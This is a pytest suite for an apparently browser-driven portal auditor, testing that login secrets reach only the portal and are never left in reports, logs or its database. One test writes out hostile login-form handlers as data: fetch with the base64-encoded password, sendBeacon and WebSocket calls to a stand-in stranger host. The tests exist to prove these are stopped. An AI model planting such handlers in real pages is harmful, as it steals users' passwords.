"""Secrets let us in, reach the portal's own hosts alone, and are found nowhere afterwards.

Every test looks through all that an audit left behind: the workspace with its packed
evidence, the reports, and what was printed.
"""

import base64
import html
import json
import sqlite3
from collections.abc import Iterator, Mapping
from pathlib import Path
from urllib.parse import parse_qs, quote

import pytest
import zstandard

from auditor.audit import Audit, read_audit
from auditor.redaction import MARKER
from tests.answering import Answer, AnsweringServer, Asked, Route, page, text
from tests.conftest import CommandLine, Ended

pytestmark = pytest.mark.browser

PASSWORD = 'p&ss "word" <22>'  # noqa: S105  of nothing but these tests
KEY = "key-0123456789-abcdef"
COOKIE = "crumb_4711_crumb"
SESSION = "session-8899aabbccdd"
BASIC = base64.b64encode(f"auditor:{PASSWORD}".encode()).decode()


def traces(folder: Path, ended: Ended, *secrets: str) -> list[str]:
    """Name where a secret is left: in which file or column, and in which spelling."""
    spellings = {BASIC} | {
        spelling
        for secret in secrets
        for spelling in (
            secret, quote(secret), quote(secret, safe=""), html.escape(secret), json.dumps(secret)[1:-1],
            base64.b64encode(secret.encode()).decode(),
        )
    }  # fmt: skip
    return [
        f"{spelling} in {place}"
        for place, data in left_behind(folder, ended)
        for spelling in spellings
        if spelling.encode().lower() in data.lower()
    ]


def left_behind(folder: Path, ended: Ended) -> Iterator[tuple[str, bytes]]:
    yield "standard output", ended.out.encode()
    yield "standard error", ended.err.encode()
    for file in folder.rglob("*"):
        if file.is_file() and not file.name.startswith("secret-") and file.name != "portal.toml":
            yield file.name, file.read_bytes()
    database = sqlite3.connect(folder / ".auditor" / "workspace.db")
    tables = [name for (name,) in database.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
    for table in tables:
        for row in database.execute(f"SELECT * FROM {table}"):  # noqa: S608  names from the database itself
            for value in row:
                packed = isinstance(value, bytes) and value.startswith(
                    zstandard.MAGIC_NUMBER.to_bytes(4, "little")
                )
                data = zstandard.ZstdDecompressor().decompress(value) if packed else str(value).encode()
                yield f"table {table}", data
    database.close()


def audited(auditor: CommandLine, url: str, more: str, *options: object) -> Ended:
    Path("portal.toml").write_text(
        f'[portal]\nname = "Demo"\nurl = "{url}"\nfrom = "audit@example.org"\n{more}', encoding="utf-8"
    )
    return auditor("-v", "audit", "portal.toml", "--plain", "--out", "report", *options)


def result() -> Audit:
    return read_audit(Path("report/audit.json"))


def states(audit: Audit) -> dict[str, tuple[str, str | None]]:
    """State and reason of each page, by its path."""
    return {page.url.partition("//")[2].partition("/")[2]: (page.state, page.reason) for page in audit.pages}


def echo(asked: Asked) -> Answer:
    """A page that repeats everything it was sent, wherever a page can say something."""
    said = "; ".join(f"{name}: {value}" for name, value in asked.headers.items())
    told = f"{said} {PASSWORD} {SESSION}"
    script = json.dumps(told).replace("<", "\\u003c")
    head = f'<meta name="description" content="{html.escape(told)}"><script>console.error({script})</script>'
    body = (
        f"<p>{html.escape(told)}</p><p style='text-transform:uppercase'>{html.escape(told)}</p>"
        f'<img src="/missing?key={quote(told)}"><a href="/linked?key={quote(KEY)}">{html.escape(told)}</a>'
        f'<a href="/plain">Plain</a><form><input name="q" value="{html.escape(told)}"></form>'
    )
    document = (
        f'<!doctype html><html lang="en"><head><title>{html.escape(told)}</title>{head}</head>'
        f"<body><main><h1>Echo</h1>{body}</main></body></html>"
    )
    headers = {
        "Content-Type": "text/html; charset=utf-8",
        "X-Echo": KEY,
        "Cache-Control": f"private, x={KEY}",
    }
    return Answer(document.encode(), headers=headers)


def guarded(routes: Mapping[str, Route]) -> dict[str, Route]:
    """Let nobody in without everything that portal.toml names."""

    def let_in(asked: Asked) -> Answer:
        has_all = (
            asked.headers.get("authorization") == f"Basic {BASIC}"
            and asked.headers.get("x-key") == KEY
            and f"crumb={COOKIE}" in asked.headers.get("cookie", "")
        )
        if not has_all:
            return Answer(b"who are you?", 401)
        route = routes[asked.path.partition("?")[0]]
        return route if isinstance(route, Answer) else route(asked)

    return dict.fromkeys(routes, let_in)


ACCESS = """\
[access]
user = "auditor"
password = "env:PORTAL_PASSWORD"
headers = { X-Key = "file:secret-key.txt" }
cookies = { crumb = "env:PORTAL_COOKIE" }
"""


@pytest.fixture
def kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Keep the secrets where portal.toml says they are."""
    monkeypatch.setenv("PORTAL_PASSWORD", PASSWORD)
    monkeypatch.setenv("PORTAL_COOKIE", COOKIE)
    (tmp_path / "secret-key.txt").write_text(f"{KEY}\n", encoding="utf-8")


@pytest.mark.usefixtures("kept")
def test_secrets_let_us_in_and_leave_no_trace(auditor: CommandLine, tmp_path: Path) -> None:
    """The portal echoes them in pages, redirects, headers, sitemaps, documents and errors."""
    with AnsweringServer({"/": echo, "/robots.txt": text("")}) as other:
        stranger = other.url.replace("127.0.0.1", "localhost")
        routes = {
            "/": page(
                '<a href="/echo">Echo</a> <a href="/to-secret">Here</a> <a href="/to-stranger">There</a> '
                f'<a href="/broken">Broken</a> <a href="/form.pdf">Form</a><img src="{stranger}i.png">'
                f'<script src="{stranger}s.js"></script><script>fetch("{stranger}f").catch(() => 0)</script>'
                f'<iframe src="{stranger}"></iframe><a href="/log-out">Sign out</a>'
            ),
            "/robots.txt": text(f"# {KEY}\nSitemap: /sitemap.txt?key={KEY}\nSitemap: /sitemap.txt"),
            "/sitemap.txt": lambda asked: text(f"http://{asked.headers['host']}/listed?key={KEY}\n"),
            "/echo": echo,
            "/plain": page("Nothing to hide."),
            "/linked": page("Never asked for."),
            "/listed": page("Never asked for."),
            "/missing": Answer(b"", 404),
            "/to-secret": Answer(b"", 302, {"Location": f"/landed?key={KEY}"}),
            "/landed": echo,
            "/to-stranger": Answer(b"", 302, {"Location": stranger}),
            "/broken": lambda asked: Answer(echo(asked).body, 500, {"X-Echo": KEY}),
            "/form.pdf": Answer(f"%PDF {KEY}".encode(), headers={"Content-Type": f"application/{KEY}"}),
        }
        with AnsweringServer(guarded(routes)) as server:
            ended = audited(auditor, server.url, ACCESS + "[crawl]\nscreenshot = true\n", "--allow-private")
            asked = {each.path.partition("?")[0] for each in server.asked}
            froms = {each.headers.get("from") for each in server.asked}
    assert ended.code == 0
    assert traces(tmp_path, ended, PASSWORD, KEY, COOKIE) == []
    seen = {path.replace(MARKER, "…"): state for path, (state, _) in states(result()).items()}
    assert seen == {
        "": "done", "echo": "done", "plain": "done", "to-secret": "done", "to-stranger": "skipped",
        "broken": "untested", "form.pdf": "done",
    }  # fmt: skip
    assert {"/linked", "/listed", "/log-out"} & asked == set()
    assert froms == {"audit@example.org"}
    # Strangers were asked, by the page's picture, script, fetch, frame and by a redirect, and told nothing.
    assert {each.path for each in other.asked} >= {"/", "/i.png", "/s.js", "/f"}
    assert {
        (each.headers.get("authorization"), each.headers.get("x-key"), each.headers.get("cookie"))
        for each in other.asked
    } == {(None, None, None)}
    assert {each.headers.get("from") for each in other.asked} == {None}


class LoginPortal:
    """A portal behind a login form; a session ends after a number of pages."""

    def __init__(self, *, lasts: int = 1_000) -> None:
        self.logins: list[dict[str, list[str]]] = []
        self.left = 0
        self._lasts = lasts
        self.inside: dict[str, Route] = {
            "/account": page(f'Sign out <a href="/echo">Echo</a> <a href="/form.pdf">Form</a> {SESSION}'),
            "/": page("".join(f'<a href="/{path}">To {path}</a> ' for path in ("account", "a", "b", "c"))),
            "/a": page("A"), "/b": page("B"), "/c": page("C"), "/plain": page("D"), "/linked": page("E"),
            "/echo": echo,
            "/form.pdf": Answer(b"%PDF-1.7", headers={"Content-Type": "application/pdf"}),
        }  # fmt: skip
        self.form = (
            '<form method="post" action="/login"><label>Name <input id="user" name="user"></label>'
            '<label>Password <input id="password" name="password" type="password"></label>'
            '<button type="submit">Go</button></form>'
        )

    def routes(self) -> dict[str, Route]:
        return {"/login": self.log_in, "/robots.txt": text("")} | dict.fromkeys(self.inside, self.let_in)

    def log_in(self, asked: Asked) -> Answer:
        if asked.method == "GET":
            return page(self.form)
        given = parse_qs(asked.body.decode())
        self.logins.append(given)
        if given.get("password") != [PASSWORD]:
            return page(f"Wrong: {html.escape(given['password'][0])}{self.form}")
        self.left = self._lasts
        cookie = f"sid={SESSION}; HttpOnly; Path=/"
        return Answer(b"", 303, {"Location": "/account", "Set-Cookie": cookie})

    def let_in(self, asked: Asked) -> Answer:
        if f"sid={SESSION}" not in asked.headers.get("cookie", "") or self.left <= 0:
            return Answer(b"", 302, {"Location": f"/login?next={asked.path}"})
        self.left -= 1
        route = self.inside[asked.path.partition("?")[0]]
        return route if isinstance(route, Answer) else route(asked)


LOGIN = """\
[login]
url = "/login"
steps = [
    { fill = "#user", text = "auditor" },
    { fill = "#password", secret = "env:PORTAL_PASSWORD" },
    { click = "button" },
]
"""


@pytest.mark.usefixtures("kept")
def test_a_login_opens_the_portal_and_leaves_no_trace(auditor: CommandLine, tmp_path: Path) -> None:
    portal = LoginPortal()
    with AnsweringServer(portal.routes()) as server:
        ended = audited(auditor, server.url, LOGIN + 'proof_text = "Sign out"\nproof_url = "/account"\n')
    assert ended.code == 0
    assert portal.logins == [{"user": ["auditor"], "password": [PASSWORD]}]
    assert {path: state for path, (state, _) in states(result()).items()} == dict.fromkeys(
        ("", "account", "a", "b", "c", "echo", "form.pdf", "plain", f"linked?key={KEY}"), "done"
    )
    assert traces(tmp_path, ended, PASSWORD, SESSION) == []


@pytest.mark.usefixtures("kept")
def test_a_session_that_ends_is_begun_again(auditor: CommandLine, tmp_path: Path) -> None:
    portal = LoginPortal(lasts=4)
    portal.inside["/account"] = page("Sign out")
    with AnsweringServer(portal.routes()) as server:
        ended = audited(auditor, server.url, LOGIN + 'proof_url = "/account"\n', "--concurrency", "1")
    assert ended.code == 0
    assert {state for state, _ in states(result()).values()} == {"done"}
    assert len(portal.logins) == 2  # each opens the account and three pages more; there are five in all
    assert traces(tmp_path, ended, PASSWORD, SESSION) == []


@pytest.mark.usefixtures("kept")
@pytest.mark.parametrize(
    ("change", "told"),
    [
        pytest.param(
            {'"env:PORTAL_PASSWORD"': '"env:PORTAL_COOKIE"'},
            "the login did not lead to an address like '/account'; it ended at {url}login",
            id="a wrong password",
        ),
        pytest.param(
            {'"button"': '"#nothing"'},
            "login step 3 (click #nothing): there was no such element within 2 s",
            id="no such element",
        ),
        pytest.param(
            {'"#user"': '"input"'}, "login step 1 (fill input): it fits 2 elements", id="several elements"
        ),
        pytest.param(
            {'"#user"': '"#password"'},
            'login step 1 (fill #password): it is a field for a password; use secret = "env:NAME", not text',
            id="a text for a password",
        ),
        pytest.param(
            {'"/login"': '"/nowhere"'}, "the login page {url}nowhere answered 404", id="no login page"
        ),
        pytest.param(
            {'"/account"': '"/login"'},
            "the login cannot be proven: an address like '/login' is there before it",
            id="no proof",
        ),
    ],
)
def test_a_login_that_fails_says_where(
    auditor: CommandLine,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    change: dict[str, str],
    told: str,
) -> None:
    """It ends the audit before anything is visited; the run can be gone on with."""
    monkeypatch.setattr("auditor.visit.login.STEP_TIMEOUT_S", 2)
    settings = LOGIN + 'proof_url = "/account"\n'
    for before, after in change.items():
        settings = settings.replace(before, after)
    portal = LoginPortal()
    with AnsweringServer(portal.routes()) as server:
        ended = audited(auditor, server.url, settings)
        assert "/a" not in server.paths()
        assert ended.code == 2
        assert ended.lines[-1] == f"auditor: {told.format(url=server.url)}"
    assert traces(tmp_path, ended, PASSWORD, SESSION) == []


@pytest.mark.usefixtures("kept")
@pytest.mark.parametrize(
    ("form", "is_told"),
    [
        pytest.param('method="post" action="{stranger}"', True, id="a form that leads elsewhere"),
        pytest.param('action="{stranger}"', True, id="a form that writes into the address"),
        pytest.param(
            "onsubmit=\"fetch('{stranger}?p=' + btoa(password.value)); return false\"",
            True,
            id="a script that tells in base64",
        ),
        pytest.param(
            "onsubmit=\"navigator.sendBeacon('{stranger}', password.value); return false\"",
            True,
            id="a beacon",
        ),
        pytest.param(
            "onsubmit=\"new WebSocket('{stranger}'.replace('http', 'ws')); return false\"",
            False,
            id="a socket",
        ),
    ],
)
def test_what_is_typed_is_not_told_to_strangers(
    auditor: CommandLine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, form: str, *, is_told: bool
) -> None:
    monkeypatch.setattr("auditor.visit.login.STEP_TIMEOUT_S", 2)
    portal = LoginPortal()
    with AnsweringServer({"/": page()}) as other:
        stranger = other.url.replace("127.0.0.1", "localhost")
        written = form.format(stranger=stranger)
        portal.form = portal.form.replace('method="post" action="/login"', written)
        assert written in portal.form
        with AnsweringServer(portal.routes()) as server:
            ended = audited(auditor, server.url, LOGIN + 'proof_url = "/account"\n', "--allow-private")
    assert ended.code == 2
    assert [each.path for each in other.asked] == []
    told = "auditor: the login page wanted to tell localhost what was typed, and was stopped; "
    assert ended.lines[-1].startswith(told) is is_told
    assert traces(tmp_path, ended, PASSWORD, SESSION) == []


@pytest.mark.usefixtures("kept")
def test_a_storage_state_lets_us_in(auditor: CommandLine, tmp_path: Path) -> None:
    """It brings a session and what scripts keep; a cookie of a whole domain is sent to the portal alone."""
    portal = LoginPortal()
    portal.left = 1_000
    state = {
        "cookies": [
            {"name": "sid", "value": SESSION, "domain": "127.0.0.1", "path": "/", "expires": -1,
             "httpOnly": True, "secure": False, "sameSite": "Lax"},
            {"name": "other", "value": KEY, "domain": "localhost", "path": "/", "expires": -1,
             "httpOnly": False, "secure": False, "sameSite": "Lax"},
        ],
        "origins": [],
    }  # fmt: skip
    with AnsweringServer({"/": page()}) as other:
        stranger = other.url.replace("127.0.0.1", "localhost")
        portal.inside["/a"] = page(f'<img alt="" src="{stranger}">')
        with AnsweringServer(portal.routes()) as server:
            state["origins"] = [
                {"origin": server.url.rstrip("/"), "localStorage": [{"name": "token", "value": KEY}]}
            ]
            Path("secret-state.json").write_text(json.dumps(state), encoding="utf-8")
            portal.inside["/b"] = page("<p id=p></p><script>p.textContent = localStorage.token</script>")
            ended = audited(
                auditor,
                server.url,
                '[access]\nstorage_state = "file:secret-state.json"\n',
                "--allow-private",
            )
    assert ended.code == 0
    assert {state for state, _ in states(result()).values()} == {"done"}
    assert [each.headers.get("cookie") for each in other.asked] == [None]
    assert traces(tmp_path, ended, KEY, SESSION) == []
